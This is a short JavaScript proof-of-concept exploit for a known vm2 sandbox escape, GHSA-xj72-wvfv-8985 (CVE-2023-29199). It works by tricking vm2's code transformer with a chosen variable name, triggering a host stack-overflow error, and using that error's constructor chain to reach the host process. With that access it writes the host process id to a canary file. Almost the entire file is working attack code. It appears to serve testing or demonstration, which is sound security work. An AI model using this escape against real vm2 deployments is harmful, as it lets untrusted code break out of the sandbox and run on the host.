// GHSA-xj72-wvfv-8985 (CVE-2023-29199), all of vm2 up to 3.9.15: a name of the guest's makes its transformer forget to wrap what
// is caught, so an error of the host, made at the end of the stack, is caught as it is.
aVM2_INTERNAL_TMPNAME = {}
function deeper() {
  new Error().stack
  deeper()
}
try {
  deeper()
} catch (a$tmpname) {
  const host = a$tmpname.constructor.constructor('return process')()
  host.getBuiltinModule('fs').writeFileSync(CANARY, String(host.pid))
}
